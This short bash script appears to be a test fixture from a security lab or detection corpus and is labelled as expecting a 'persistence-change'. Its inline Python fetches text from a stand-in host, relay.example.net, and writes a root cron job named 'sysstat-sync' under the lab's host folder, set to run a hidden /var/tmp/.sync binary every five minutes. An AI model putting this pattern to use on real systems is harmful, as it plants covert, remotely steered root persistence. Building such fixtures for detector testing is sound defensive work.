#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=persistence-change half=tune tool=python3 seconds=12 parts=dns,nas,outside-web before=yes
# Python fetches a line outside and puts it among the jobs of cron; the host's root is a folder of the lab.
# config: host_root: {dir}/host
if [ "$1" = before ]; then exec "$(dirname "$0")/../far/host-root.sh"; fi
[ "$1" = nvr ] || exit 0
python3 -c 'import os, time, urllib.request
text = urllib.request.urlopen("http://relay.example.net/version").read().decode()
time.sleep(2)
with open(os.environ["LAB"] + "/host/etc/cron.d/sysstat-sync", "w") as file:
    file.write("*/5 * * * * root /var/tmp/.sync " + text)
time.sleep(3)'
true
